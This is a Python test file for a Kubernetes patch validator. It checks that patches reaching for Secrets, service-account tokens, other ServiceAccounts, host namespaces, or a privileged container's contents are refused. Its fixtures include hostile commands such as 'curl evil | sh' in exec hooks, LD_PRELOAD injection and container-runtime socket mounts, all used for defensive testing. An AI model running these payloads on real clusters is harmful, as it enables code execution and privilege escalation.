"""The controls beyond Pod Security: Secrets, service-account credentials, the ServiceAccount,
nodeName, the user namespace (hostUsers), and what runs in a container the template grants a
privilege. Each escalation is refused naming its path, its control and the setting that allows
it, and passes once that setting does; benign look-alikes pass the default policy."""

from __future__ import annotations

import copy
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from modelserving.api import PatchPolicy, PatchRejected, PathRule
from modelserving.api.policy import (
    BASELINE_CAPABILITIES,
    RESTRICTED_VOLUME_TYPES,
    default_path_rules,
)
from modelserving.chain import PatchValidator, access, takeover
from modelserving.chain.jsonpatch import apply_one
from tests.unit.chain.test_patch_policy import expected, op

Ops = list[dict[str, Any]]
OPEN = [PathRule(path="/**")]
ENGINE = "/spec/containers/0"
AGENT = "/spec/containers/1"
RESTRICTED = {
    "allowPrivilegeEscalation": False,
    "capabilities": {"drop": ["ALL"]},
    "runAsNonRoot": True,
    "seccompProfile": {"type": "RuntimeDefault"},
}


def template(*extra: dict[str, Any], **spec: Any) -> dict[str, Any]:
    """A restricted ``engine`` and ``extra`` containers; ``automountServiceAccountToken: false``
    and ``hostUsers: false`` unless ``spec`` says otherwise."""
    engine = {"name": "engine", "image": "vllm:1", "securityContext": dict(RESTRICTED)}
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "p", "namespace": "ns", "labels": {"app": "x"}},
        "spec": {
            "automountServiceAccountToken": False,
            "hostUsers": False,
            "containers": [engine, *extra],
            **spec,
        },
    }


def engine_env(*env: dict[str, Any]) -> dict[str, Any]:
    """``template()`` with ``env`` in its engine container."""
    pod = template()
    pod["spec"]["containers"][0]["env"] = list(env)
    return pod


def agent(**security: Any) -> dict[str, Any]:
    """A container the template grants ``security`` (privileged unless given)."""
    return {
        "name": "agent",
        "image": "agent:1",
        "command": ["/bin/sh", "-c", "exec agent"],
        "volumeMounts": [{"name": "state", "mountPath": "/state"}],
        "securityContext": security or {"privileged": True},
    }


def refused(pod: dict[str, Any], ops: Ops, path: str, *says: str, **allowing: Any) -> None:
    """Refused at ``path`` by the default policy with the paths opened, the reason saying each of
    ``says``; accepted once the policy sets ``allowing``."""
    before = copy.deepcopy(pod)
    with pytest.raises(PatchRejected) as info:
        PatchValidator(PatchPolicy(allowed_paths=OPEN)).apply(pod, ops)
    assert pod == before
    assert info.value.path == path, info.value
    for text in says:
        assert text in info.value.reason, info.value.reason
    allowed = PatchValidator(PatchPolicy(allowed_paths=OPEN, **allowing))
    assert allowed.apply(pod, ops) == expected(pod, ops)


def passes(pod: dict[str, Any], ops: Ops, **policy: Any) -> None:
    assert PatchValidator(PatchPolicy(**policy)).apply(pod, ops) == expected(pod, ops)


MOUNT = {"name": "x", "mountPath": "/var/run/x"}
SIDE = {"name": "side", "image": "s:1", "volumeMounts": [MOUNT], "securityContext": RESTRICTED}


def volume(**source: Any) -> dict[str, Any]:
    return {"name": "x", **source}


def token(audience: str | None = None) -> dict[str, Any]:
    source: dict[str, Any] = {"path": "token"}
    if audience:
        source["audience"] = audience
    return {"serviceAccountToken": source}


# --- Secrets, credentials, ServiceAccount, nodeName, hostUsers --------------------------------

SECRET = ("weakens control 'Secrets'", "add admin-token to patchPolicy.allowedSecrets")
ALLOW_SECRET = {"allowed_secrets": ["admin-token"]}
CREDENTIAL = (
    "weakens control 'Service Account Credentials'",
    "patchPolicy.allowServiceAccountTokens is false",
)
ALLOW_CREDENTIAL = {"allow_service_account_tokens": True}

STORE = "secrets-store.csi.k8s.io"
CERTS = "csi.cert-manager.io"
DB = {"secretProviderClass": "db"}
ISSUER = {
    "csi.cert-manager.io/issuer-name": "mesh-ca",
    "csi.cert-manager.io/issuer-kind": "ClusterIssuer",
    "csi.cert-manager.io/uri-sans": "spiffe://cluster.local/ns/payments/sa/admin",
}
CSI = ("weakens control 'CSI Drivers'", f"add {STORE} to patchPolicy.allowedCsiDrivers")
ALLOW_CSI = {"allowed_csi_drivers": [STORE]}
CLAIM = ("weakens control 'Volume Claims'", "add other to patchPolicy.allowedClaims")
ALLOW_CLAIM = {"allowed_claims": ["other"]}
CLONE = {"kind": "PersistentVolumeClaim", "name": "other"}
SNAPSHOT = {"apiGroup": "snapshot.storage.k8s.io", "kind": "VolumeSnapshot", "name": "other"}


def ephemeral(name: str = "x", **claim: Any) -> dict[str, Any]:
    """An ephemeral volume whose claim template's spec has ``claim`` besides a size."""
    spec = {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}
    return {"name": name, "ephemeral": {"volumeClaimTemplate": {"spec": {**spec, **claim}}}}


ESCALATIONS: dict[str, tuple[dict[str, Any], Ops, str, tuple[str, ...], dict[str, Any]]] = {
    "secret volume": (
        template(),
        [
            op("add", "/spec/volumes", [volume(secret={"secretName": "admin-token"})]),
            op("add", f"{ENGINE}/volumeMounts", [MOUNT]),
        ],
        "/spec/volumes/0",
        SECRET,
        ALLOW_SECRET,
    ),
    "projected secret": (
        template(),
        [
            op(
                "add",
                "/spec/volumes",
                [volume(projected={"sources": [{"secret": {"name": "admin-token"}}]})],
            )
        ],
        "/spec/volumes/0",
        SECRET,
        ALLOW_SECRET,
    ),
    "csi nodePublishSecretRef": (
        template(),
        [
            op(
                "add",
                "/spec/volumes",
                [volume(csi={"driver": "d", "nodePublishSecretRef": {"name": "admin-token"}})],
            )
        ],
        "/spec/volumes/0",
        SECRET,
        {**ALLOW_SECRET, "allowed_csi_drivers": ["d"]},
    ),
    "Secrets Store CSI volume": (
        template(),
        [
            op(
                "add",
                "/spec/volumes",
                [volume(csi={"driver": STORE, "volumeAttributes": {"secretProviderClass": "db"}})],
            ),
            op("add", f"{ENGINE}/volumeMounts", [MOUNT]),
        ],
        "/spec/volumes/0",
        (
            f"the Pod mounts an inline CSI volume of driver '{STORE}' with volumeAttributes "
            '{"secretProviderClass": "db"}',
            *CSI,
        ),
        ALLOW_CSI,
    ),
    "cert-manager CSI certificate": (
        template(),
        [op("add", "/spec/volumes", [volume(csi={"driver": CERTS, "volumeAttributes": ISSUER})])],
        "/spec/volumes/0",
        (
            "csi.cert-manager.io/uri-sans",
            "add csi.cert-manager.io to patchPolicy.allowedCsiDrivers",
        ),
        {"allowed_csi_drivers": [CERTS]},
    ),
    "SPIFFE CSI socket": (
        template(),
        [op("add", "/spec/volumes", [volume(csi={"driver": "csi.spiffe.io", "readOnly": True})])],
        "/spec/volumes/0",
        ("driver 'csi.spiffe.io', which weakens control 'CSI Drivers'",),
        {"allowed_csi_drivers": ["csi.spiffe.io"]},
    ),
    "the template's CSI driver with other attributes": (
        template(volumes=[{"name": "db", "csi": {"driver": STORE, "volumeAttributes": DB}}]),
        [
            op(
                "add",
                "/spec/volumes/-",
                volume(csi={"driver": STORE, "volumeAttributes": {"secretProviderClass": "admin"}}),
            )
        ],
        "/spec/volumes/1",
        ('{"secretProviderClass": "admin"}', *CSI),
        ALLOW_CSI,
    ),
    "another workload's PersistentVolumeClaim": (
        template(),
        [
            op("add", "/spec/volumes", [volume(persistentVolumeClaim={"claimName": "other"})]),
            op("add", f"{ENGINE}/volumeMounts", [MOUNT]),
        ],
        "/spec/volumes/0",
        ("the Pod uses PersistentVolumeClaim 'other'", *CLAIM),
        ALLOW_CLAIM,
    ),
    "the template's volume pointed at another claim": (
        template(volumes=[volume(persistentVolumeClaim={"claimName": "models"})]),
        [op("replace", "/spec/volumes/0/persistentVolumeClaim/claimName", "other")],
        "/spec/volumes/0",
        ("uses PersistentVolumeClaim 'other'", *CLAIM),
        ALLOW_CLAIM,
    ),
    "ephemeral volume cloned from another claim (dataSourceRef)": (
        template(),
        [op("add", "/spec/volumes", [ephemeral(dataSourceRef=CLONE)])],
        "/spec/volumes/0",
        ("fills an ephemeral volume from PersistentVolumeClaim 'other'", *CLAIM),
        ALLOW_CLAIM,
    ),
    "ephemeral volume from a snapshot (dataSource)": (
        template(),
        [op("add", "/spec/volumes", [ephemeral(dataSource=SNAPSHOT)])],
        "/spec/volumes/0",
        (
            "fills an ephemeral volume from VolumeSnapshot (snapshot.storage.k8s.io) 'other'",
            *CLAIM,
        ),
        ALLOW_CLAIM,
    ),
    "ephemeral volume bound to a PersistentVolume": (
        template(),
        [op("add", "/spec/volumes", [ephemeral(volumeName="other")])],
        "/spec/volumes/0",
        ("binds an ephemeral volume to PersistentVolume 'other'", *CLAIM),
        ALLOW_CLAIM,
    ),
    "env secretKeyRef": (
        template(),
        [
            op(
                "add",
                f"{ENGINE}/env",
                [{"name": "T", "valueFrom": {"secretKeyRef": {"name": "admin-token", "key": "t"}}}],
            )
        ],
        f"{ENGINE}/env/0",
        SECRET,
        ALLOW_SECRET,
    ),
    "env secretKeyRef appended": (
        engine_env({"name": "A", "value": "1"}),
        [op("add", f"{ENGINE}/env/-", {"name": "T", "valueFrom": {"secretKeyRef": {"name": "s"}}})],
        f"{ENGINE}/env/1",
        ("weakens control 'Secrets'", "add s to patchPolicy.allowedSecrets"),
        {"allowed_secrets": ["s"]},
    ),
    "a plain env var turned into a secretKeyRef": (
        engine_env({"name": "A", "value": "1"}),
        [
            op("remove", f"{ENGINE}/env/0/value"),
            op("add", f"{ENGINE}/env/0/valueFrom", {"secretKeyRef": {"name": "s"}}),
        ],
        f"{ENGINE}/env/0",
        ("weakens control 'Secrets'", "add s to patchPolicy.allowedSecrets"),
        {"allowed_secrets": ["s"]},
    ),
    "a secretKeyRef pointed at another Secret": (
        engine_env({"name": "A", "valueFrom": {"secretKeyRef": {"name": "s"}}}),
        [op("replace", f"{ENGINE}/env/0/valueFrom/secretKeyRef/name", "admin-token")],
        f"{ENGINE}/env/0",
        SECRET,
        ALLOW_SECRET,
    ),
    "envFrom secretRef": (
        template(),
        [op("add", f"{ENGINE}/envFrom", [{"secretRef": {"name": "admin-token"}}])],
        f"{ENGINE}/envFrom/0",
        SECRET,
        ALLOW_SECRET,
    ),
    "imagePullSecrets": (
        template(),
        [op("add", "/spec/imagePullSecrets", [{"name": "admin-token"}])],
        "/spec/imagePullSecrets/0",
        SECRET,
        ALLOW_SECRET,
    ),
    "projected token despite automount false": (
        template(),
        [
            op("add", "/spec/volumes", [volume(projected={"sources": [token()]})]),
            op("add", f"{ENGINE}/volumeMounts", [MOUNT]),
        ],
        "/spec/volumes/0",
        ("projects a token of its ServiceAccount for the Kubernetes API", *CREDENTIAL),
        ALLOW_CREDENTIAL,
    ),
    "projected token for another audience": (
        template(automountServiceAccountToken=True),
        [op("add", "/spec/volumes", [volume(projected={"sources": [token("vault")]})])],
        "/spec/volumes/0",
        ("for audience 'vault'", *CREDENTIAL),
        ALLOW_CREDENTIAL,
    ),
    "projected pod certificate": (
        template(),
        [
            op(
                "add",
                "/spec/volumes",
                [volume(projected={"sources": [{"podCertificate": {"signerName": "x.io/s"}}]})],
            )
        ],
        "/spec/volumes/0",
        ("projects a certificate of its identity signed by 'x.io/s'", *CREDENTIAL),
        ALLOW_CREDENTIAL,
    ),
    "automount false removed": (
        template(),
        [op("remove", "/spec/automountServiceAccountToken")],
        "/spec/automountServiceAccountToken",
        ("unless the ServiceAccount opts out", *CREDENTIAL),
        ALLOW_CREDENTIAL,
    ),
    "automount false made true": (
        template(),
        [op("replace", "/spec/automountServiceAccountToken", True)],
        "/spec/automountServiceAccountToken",
        CREDENTIAL,
        ALLOW_CREDENTIAL,
    ),
    "automount unset made true (the ServiceAccount may opt out)": (
        template(automountServiceAccountToken=None),
        [op("add", "/spec/automountServiceAccountToken", True)],
        "/spec/automountServiceAccountToken",
        CREDENTIAL,
        ALLOW_CREDENTIAL,
    ),
    "serviceAccountName set": (
        template(),
        [op("add", "/spec/serviceAccountName", "admin")],
        "/spec/serviceAccountName",
        ("weakens control 'Service Account'", "add admin to patchPolicy.allowedServiceAccounts"),
        {"allowed_service_accounts": ["admin"]},
    ),
    "serviceAccountName changed": (
        template(serviceAccountName="engine"),
        [op("replace", "/spec/serviceAccountName", "default")],
        "/spec/serviceAccountName",
        ("runs as ServiceAccount 'default'",),
        {"allowed_service_accounts": ["default"]},
    ),
    "deprecated serviceAccount set": (
        template(),
        [op("add", "/spec/serviceAccount", "admin")],
        "/spec/serviceAccount",
        ("runs as ServiceAccount 'admin'",),
        {"allowed_service_accounts": ["admin"]},
    ),
    "nodeName set": (
        template(),
        [op("add", "/spec/nodeName", "control-plane-1")],
        "/spec/nodeName",
        ("weakens control 'Node Name'", "patchPolicy.allowNodeName is false"),
        {"allow_node_name": True},
    ),
    "hostUsers false removed": (
        template(),
        [op("remove", "/spec/hostUsers")],
        "/spec/hostUsers",
        (
            "shares the node's user namespace",
            "weakens Pod Security control 'Host Namespaces'",
            "patchPolicy.allowHostNamespaces is false",
        ),
        {"allow_host_namespaces": True},
    ),
    "hostUsers made true": (
        template(),
        [op("replace", "/spec/hostUsers", True)],
        "/spec/hostUsers",
        ("shares the node's user namespace",),
        {"allow_host_namespaces": True},
    ),
}


@pytest.mark.parametrize(
    ("pod", "ops", "path", "says", "allowing"), list(ESCALATIONS.values()), ids=list(ESCALATIONS)
)
def test_access_the_template_did_not_give_is_refused(
    pod: dict[str, Any], ops: Ops, path: str, says: tuple[str, ...], allowing: dict[str, Any]
) -> None:
    pod["spec"] = {k: v for k, v in pod["spec"].items() if v is not None}
    refused(pod, ops, path, *says, **allowing)


def test_a_secret_name_that_is_no_name_is_refused() -> None:
    ops = [op("add", "/spec/volumes", [volume(secret={"secretName": 7})])]
    with pytest.raises(PatchRejected) as info:
        PatchValidator(PatchPolicy(allowed_secrets=["x"])).apply(template(), ops)
    assert info.value.path == "/spec/volumes/0"
    assert "references Secret 7, which is not a Secret name" in info.value.reason


def test_a_removal_inside_a_value_from_is_judged() -> None:
    """Removing a variable takes a reference away, but removing the name of its secretKeyRef
    makes it reference a Secret the template does not: None, which names none."""
    pod = engine_env({"name": "A", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}})
    ops = [op("remove", f"{ENGINE}/env/0/valueFrom/secretKeyRef/name")]
    with pytest.raises(PatchRejected) as info:
        PatchValidator(PatchPolicy(allowed_paths=OPEN, allowed_secrets=["s"])).apply(pod, ops)
    assert info.value.path == f"{ENGINE}/env/0"
    assert "references Secret None, which is not a Secret name" in info.value.reason
    passes(pod, [op("remove", f"{ENGINE}/env/0")], allowed_paths=OPEN)


def test_the_red_team_patches_are_refused_by_the_default_policy() -> None:
    """The default allow-list lets these paths change; the controls refuse them."""
    pod = template()
    for ops in (
        [op("add", "/spec/volumes", [volume(secret={"secretName": "admin-token"})])],
        [op("add", "/spec/volumes", [volume(projected={"sources": [token()]})])],
        [op("add", f"{ENGINE}/env", [{"name": "T", "valueFrom": {"secretKeyRef": {"name": "s"}}}])],
    ):
        with pytest.raises(PatchRejected):
            PatchValidator().apply(pod, ops)


BENIGN: dict[str, tuple[dict[str, Any], Ops]] = {
    "env var": (template(), [op("add", f"{ENGINE}/env", [{"name": "A", "value": "1"}])]),
    "env from a ConfigMap or the Pod": (
        template(),
        [
            op(
                "add",
                f"{ENGINE}/env",
                [
                    {"name": "A", "valueFrom": {"configMapKeyRef": {"name": "c", "key": "k"}}},
                    {"name": "B", "valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}}},
                ],
            ),
            op("add", f"{ENGINE}/envFrom", [{"configMapRef": {"name": "c"}}]),
        ],
    ),
    "ConfigMap, emptyDir and downwardAPI volumes": (
        template(),
        [
            op(
                "add",
                "/spec/volumes",
                [
                    volume(configMap={"name": "p-0-files"}),
                    {"name": "shm", "emptyDir": {"medium": "Memory"}},
                    {"name": "info", "downwardAPI": {"items": []}},
                    {"name": "ca", "projected": {"sources": [{"configMap": {"name": "ca"}}]}},
                ],
            ),
            op("add", f"{ENGINE}/volumeMounts", [MOUNT]),
        ],
    ),
    "a Secret the template references, elsewhere": (
        template(volumes=[volume(secret={"secretName": "engine-tls"})]),
        [
            op(
                "add",
                f"{ENGINE}/env",
                [{"name": "K", "valueFrom": {"secretKeyRef": {"name": "engine-tls", "key": "k"}}}],
            ),
            op(
                "add",
                "/spec/containers/-",
                SIDE,
            ),
        ],
    ),
    "the template's claim mounted in a sidecar": (
        template(volumes=[volume(persistentVolumeClaim={"claimName": "models"})]),
        [op("add", "/spec/containers/-", SIDE)],
    ),
    "the template's claim in a second volume, read-only": (
        template(volumes=[volume(persistentVolumeClaim={"claimName": "models"})]),
        [
            op(
                "add",
                "/spec/volumes/-",
                {"name": "ro", "persistentVolumeClaim": {"claimName": "models", "readOnly": True}},
            )
        ],
    ),
    "an ephemeral volume without a data source": (
        template(),
        [op("add", "/spec/volumes", [ephemeral(storageClassName="fast")])],
    ),
    "the template's clone source in a second ephemeral volume": (
        template(volumes=[ephemeral(dataSource=CLONE, dataSourceRef=CLONE)]),
        [op("add", "/spec/volumes/-", ephemeral("y", dataSourceRef=CLONE))],
    ),
    "the template's CSI volume again, and mounted in a sidecar": (
        template(volumes=[{"name": "db", "csi": {"driver": STORE, "volumeAttributes": DB}}]),
        [
            op("add", "/spec/volumes/-", volume(csi={"driver": STORE, "volumeAttributes": DB})),
            op("add", "/spec/containers/-", SIDE),
        ],
    ),
    "the template's token mounted in a sidecar": (
        template(volumes=[volume(projected={"sources": [token("vault")]})]),
        [
            op(
                "add",
                "/spec/containers/-",
                SIDE,
            )
        ],
    ),
}


@pytest.mark.parametrize(("pod", "ops"), list(BENIGN.values()), ids=list(BENIGN))
def test_look_alikes_pass_the_default_policy(pod: dict[str, Any], ops: Ops) -> None:
    """The default policy, with envFrom added to the paths (it has no rule for it)."""
    passes(pod, ops, allowed_paths=[*default_path_rules(), PathRule(path="/spec/*/*/envFrom")])


@pytest.mark.parametrize(
    ("spec", "ops"),
    [
        (
            {"automountServiceAccountToken": None},
            [op("add", "/spec/automountServiceAccountToken", False)],
        ),
        (
            {"automountServiceAccountToken": True},
            [op("replace", "/spec/automountServiceAccountToken", True)],
        ),
        ({"hostUsers": None}, [op("add", "/spec/hostUsers", False)]),
        ({}, [op("add", "/spec/serviceAccountName", "default")]),  # unset is 'default'
        ({"serviceAccountName": "a"}, [op("replace", "/spec/serviceAccountName", "a")]),
        ({"nodeName": "n1"}, [op("remove", "/spec/nodeName")]),
        ({"volumes": [volume(secret={"secretName": "s"})]}, [op("remove", "/spec/volumes/0")]),
    ],
    ids=[
        "automount turned off",
        "automount kept",
        "hostUsers false added",
        "default account",
        "same account",
        "nodeName removed",
        "Secret dropped",
    ],
)
def test_keeping_or_narrowing_access_passes(spec: dict[str, Any], ops: Ops) -> None:
    pod = template()
    pod["spec"].update(spec)
    pod["spec"] = {k: v for k, v in pod["spec"].items() if v is not None}
    passes(pod, ops, allowed_paths=OPEN)


def test_listed_secrets_and_accounts_only() -> None:
    pod = template()
    ops = [op("add", "/spec/volumes", [volume(secret={"secretName": "other"})])]
    with pytest.raises(PatchRejected, match=r"add other to patchPolicy\.allowedSecrets"):
        PatchValidator(PatchPolicy(allowed_secrets=["admin-token"])).apply(pod, ops)


@pytest.mark.parametrize("field", ["allowed_secrets", "allowed_service_accounts", "allowed_claims"])
def test_names_in_the_lists_must_be_object_names(field: str) -> None:
    with pytest.raises(ValidationError, match="is not an object name"):
        PatchPolicy.model_validate({field: ["Admin Token"]})


def test_listed_csi_drivers_only_and_their_names() -> None:
    ops = [op("add", "/spec/volumes", [volume(csi={"driver": "csi.spiffe.io"})])]
    with pytest.raises(
        PatchRejected, match=r"add csi\.spiffe\.io to patchPolicy\.allowedCsiDrivers"
    ):
        PatchValidator(PatchPolicy(allowed_csi_drivers=[STORE])).apply(template(), ops)
    assert PatchPolicy(allowed_csi_drivers=["Driver_1.example.com"]).allowed_csi_drivers
    with pytest.raises(ValidationError, match="is not a CSI driver name"):
        PatchPolicy.model_validate({"allowedCsiDrivers": ["csi driver"]})
    ops = [op("add", "/spec/volumes", [volume(csi={"driver": 7})])]
    with pytest.raises(PatchRejected, match="driver 7, which is not a CSI driver name"):
        PatchValidator().apply(template(), ops)


# --- what runs in a privileged container -------------------------------------------------------

TAKEOVER = ("patchPolicy.allowPrivilegedContainerChanges is false",)
STATE = {"name": "state", "emptyDir": {}}
PAYLOAD = {"name": "payload", "configMap": {"name": "p-0-payload", "defaultMode": 493}}
EXEC = {"exec": {"command": ["/bin/sh", "-c", "curl evil | sh"]}}

HIJACKS: dict[str, tuple[Ops, str]] = {
    "image": ([op("replace", f"{AGENT}/image", "evil:1")], f"{AGENT}/image"),
    "command": ([op("replace", f"{AGENT}/command", ["/bin/sh"])], f"{AGENT}/command"),
    "command removed": ([op("remove", f"{AGENT}/command")], f"{AGENT}/command"),
    "args": ([op("add", f"{AGENT}/args", ["-c", "x"])], f"{AGENT}/args"),
    "workingDir": ([op("add", f"{AGENT}/workingDir", "/tmp")], f"{AGENT}/workingDir"),
    "env LD_PRELOAD": (
        [op("add", f"{AGENT}/env", [{"name": "LD_PRELOAD", "value": "/p/x.so"}])],
        f"{AGENT}/env",
    ),
    "envFrom": (
        [op("add", f"{AGENT}/envFrom", [{"configMapRef": {"name": "c"}}])],
        f"{AGENT}/envFrom",
    ),
    "ConfigMap over /bin": (
        [
            op("add", "/spec/volumes/-", PAYLOAD),
            op("add", f"{AGENT}/volumeMounts/-", {"name": "payload", "mountPath": "/bin"}),
        ],
        f"{AGENT}/volumeMounts",
    ),
    "volumeDevices": (
        [op("add", f"{AGENT}/volumeDevices", [{"name": "state", "devicePath": "/dev/x"}])],
        f"{AGENT}/volumeDevices",
    ),
    "the volume it mounts replaced": (
        [op("replace", "/spec/volumes/0", {**PAYLOAD, "name": "state"})],
        "/spec/volumes/0",
    ),
    "postStart hook": (
        [op("add", f"{AGENT}/lifecycle", {"postStart": EXEC})],
        f"{AGENT}/lifecycle",
    ),
    "exec probe": ([op("add", f"{AGENT}/livenessProbe", EXEC)], f"{AGENT}/livenessProbe"),
    "container removed and added back": (
        [
            op("remove", AGENT),
            op("add", "/spec/containers/-", {**agent(), "image": "evil:1"}),
        ],
        f"{AGENT}/image",
    ),
    "shareProcessNamespace": (
        [op("add", "/spec/shareProcessNamespace", True)],
        "/spec/shareProcessNamespace",
    ),
}


@pytest.mark.parametrize(("ops", "path"), list(HIJACKS.values()), ids=list(HIJACKS))
def test_what_a_privileged_container_runs_may_not_change(ops: Ops, path: str) -> None:
    pod = template(agent(), volumes=[STATE])
    refused(
        pod,
        ops,
        path,
        "container 'agent', which runs privileged in the template",
        "or let plugins add that privilege: patchPolicy.allowPrivileged)",
        *TAKEOVER,
        allow_privileged_container_changes=True,
    )


GRANTS: dict[str, tuple[dict[str, Any], str, str]] = {
    "capability": (
        {"capabilities": {"add": ["SYS_ADMIN"]}},
        "adds capability SYS_ADMIN",
        "allowedCapabilities",
    ),
    "runAsUser 0": ({"runAsUser": 0}, "runs as user 0", "allowRunAsRoot"),
    "runAsNonRoot false": ({"runAsNonRoot": False}, "sets runAsNonRoot: false", "allowRunAsRoot"),
    "privilege escalation": (
        {"allowPrivilegeEscalation": True},
        "sets allowPrivilegeEscalation: true",
        "allowPrivilegeEscalation",
    ),
    "unconfined": (
        {"seccompProfile": {"type": "Unconfined"}},
        "seccomp profile 'Unconfined'",
        "allowUnconfined",
    ),
}


@pytest.mark.parametrize(("security", "grant", "setting"), list(GRANTS.values()), ids=list(GRANTS))
def test_any_grant_a_plugin_could_not_add_protects_the_container(
    security: dict[str, Any], grant: str, setting: str
) -> None:
    pod = template(agent(**security), volumes=[STATE])
    ops = [op("add", f"{AGENT}/env", [{"name": "BASH_ENV", "value": "/p/x"}])]
    refused(
        pod,
        ops,
        f"{AGENT}/env",
        grant,
        f"patchPolicy.{setting})",
        *TAKEOVER,
        allow_privileged_container_changes=True,
    )


def test_host_path_mounts_and_host_ports_protect_the_container() -> None:
    pod = template(agent(), volumes=[STATE, {"name": "dev", "hostPath": {"path": "/dev"}}])
    pod["spec"]["containers"][1]["securityContext"] = dict(RESTRICTED)
    pod["spec"]["containers"][1]["volumeMounts"].append({"name": "dev", "mountPath": "/dev"})
    ops = [op("replace", f"{AGENT}/image", "evil:1")]
    refused(
        pod,
        ops,
        f"{AGENT}/image",
        "mounts hostPath volume 'dev' at '/dev'",
        *TAKEOVER,
        allow_privileged_container_changes=True,
    )
    del pod["spec"]["containers"][1]["volumeMounts"][1]
    pod["spec"]["containers"][1]["ports"] = [{"containerPort": 22, "hostPort": 22}]
    refused(
        pod,
        ops,
        f"{AGENT}/image",
        "opens host port 0.0.0.0:22/TCP",
        *TAKEOVER,
        allow_privileged_container_changes=True,
    )


def _read_only_host_mount(source: dict[str, Any] | None = None, **mount: Any) -> dict[str, Any]:
    """A template whose agent mounts the host's /usr/local/Ascend/driver (or ``source``)
    read-only, and nothing else beyond the restricted profile."""
    driver = source or {"path": "/usr/local/Ascend/driver", "type": "Directory"}
    pod = template(agent(), volumes=[STATE, {"name": "driver", "hostPath": driver}])
    pod["spec"]["containers"][1]["securityContext"] = dict(RESTRICTED)
    pod["spec"]["containers"][1]["volumeMounts"].append(
        {"name": "driver", "mountPath": "/usr/local/Ascend/driver", "readOnly": True, **mount}
    )
    return pod


def test_a_writable_or_propagating_host_mount_still_protects_the_container() -> None:
    ops = [op("add", f"{AGENT}/env", [{"name": "A", "value": "1"}])]
    for mount, says in (
        ({"readOnly": False}, "writable"),
        ({"mountPropagation": "HostToContainer"}, "with mounts propagated from the host"),
    ):
        refused(
            _read_only_host_mount(**mount),
            ops,
            f"{AGENT}/env",
            says,
            *TAKEOVER,
            allow_privileged_container_changes=True,
        )


@pytest.mark.parametrize(
    ("source", "mount"),
    [
        ({"path": "/run/containerd/containerd.sock", "type": "Socket"}, {}),
        ({"path": "/dev/nvidia0", "type": "CharDevice"}, {}),
        ({"path": "/var/run/docker.sock"}, {}),  # no type: whatever is there
        ({"path": "/var/run", "type": "Directory"}, {}),
        ({"path": "/", "type": "Directory"}, {}),  # above every live directory
        ({"path": "/var/lib/kubelet/pods", "type": "Directory"}, {}),
        # a safe directory, but the env a plugin could change picks the subdirectory
        ({"path": "/data/logs", "type": "Directory"}, {"subPathExpr": "$(POD_UID)"}),
    ],
    ids=["socket", "device", "untyped", "run-directory", "root", "kubelet", "subPathExpr"],
)
def test_a_read_only_mount_of_a_live_host_path_still_protects_the_container(
    source: dict[str, Any], mount: dict[str, Any]
) -> None:
    """A read-only mount stops writes to files, not connecting to a socket or writing to a
    device: such mounts keep what the container runs closed."""
    ops = [op("add", f"{AGENT}/env", [{"name": "POD_UID", "value": "other"}])]
    refused(
        _read_only_host_mount(source, **mount),
        ops,
        f"{AGENT}/env",
        "mounts hostPath volume 'driver'",
        *TAKEOVER,
        allow_privileged_container_changes=True,
    )


# --- what writes a volume a privileged container mounts -----------------------------------------

TOOLS = {"name": "tools", "emptyDir": {}}
SOURCE = {"name": "source", "emptyDir": {}}
RUNNER = {
    "name": "agent",
    "image": "agent:1",
    "command": ["/opt/tools/agent"],
    "volumeMounts": [{"name": "tools", "mountPath": "/opt/tools"}],
    "securityContext": {"privileged": True},
}
FILLER = {
    "name": "fill",
    "image": "tools:1",
    "command": ["cp", "/src/agent", "/opt/tools/agent"],
    "volumeMounts": [
        {"name": "tools", "mountPath": "/opt/tools"},
        {"name": "source", "mountPath": "/src", "readOnly": True},
    ],
    "securityContext": RESTRICTED,
}
FETCHER = {
    "name": "fetch",
    "image": "fetch:1",
    "volumeMounts": [{"name": "source", "mountPath": "/src"}],
    "securityContext": RESTRICTED,
}
FILL = "/spec/initContainers/1"
WRITER = {
    "name": "plugin",
    "image": "evil:1",
    "command": ["sh", "-c", "cp /evil /opt/tools/agent"],
    "volumeMounts": [{"name": "tools", "mountPath": "/opt/tools"}],
    "securityContext": RESTRICTED,
}
OF_AGENT = "volume 'tools' that container 'agent' mounts, which runs privileged in the template"
WRITES = (
    "nor what writes a volume such a container mounts",
    "or let plugins add that privilege: patchPolicy.allowPrivileged)",
    *TAKEOVER,
)


def fed() -> dict[str, Any]:
    """``agent`` runs privileged from the emptyDir ``tools``, which the init container ``fill``
    fills from ``source``, which the init container ``fetch`` fills (one writer of a writer)."""
    return template(RUNNER, volumes=[TOOLS, SOURCE, PAYLOAD], initContainers=[FETCHER, FILLER])


FEEDS: dict[str, tuple[Ops, str, str]] = {
    "an init container appended after the template's": (
        [op("add", "/spec/initContainers/-", WRITER)],
        "/spec/initContainers/2",
        f"adds initContainer 'plugin', which writes {OF_AGENT}",
    ),
    "a native sidecar (restartPolicy Always)": (
        [op("add", "/spec/initContainers/-", {**WRITER, "restartPolicy": "Always"})],
        "/spec/initContainers/2",
        f"adds initContainer 'plugin', which writes {OF_AGENT}",
    ),
    "a sidecar": (
        [op("add", "/spec/containers/-", WRITER)],
        "/spec/containers/2",
        f"adds container 'plugin', which writes {OF_AGENT}",
    ),
    "a sidecar writing it as a block device": (
        [
            op(
                "add",
                "/spec/containers/-",
                {
                    **WRITER,
                    "volumeMounts": [],
                    "volumeDevices": [{"name": "tools", "devicePath": "/d"}],
                },
            )
        ],
        "/spec/containers/2",
        "adds container 'plugin', which writes volume 'tools'",
    ),
    "a sidecar whose readOnly is false": (
        [
            op(
                "add",
                "/spec/containers/-",
                {
                    **WRITER,
                    "volumeMounts": [{"name": "tools", "mountPath": "/t", "readOnly": False}],
                },
            )
        ],
        "/spec/containers/2",
        "adds container 'plugin', which writes volume 'tools'",
    ),
    "a ConfigMap over the source file of the template's filler": (
        [
            op("add", f"{FILL}/volumeMounts/-", {"name": "payload", "mountPath": "/src/agent"}),
        ],
        f"{FILL}/volumeMounts",
        f"changes the volumeMounts of initContainer 'fill', which writes {OF_AGENT}",
    ),
    "the filler's command": (
        [op("replace", f"{FILL}/command", ["sh", "-c", "curl evil > /opt/tools/agent"])],
        f"{FILL}/command",
        "changes the command of initContainer 'fill'",
    ),
    "the filler's env": (
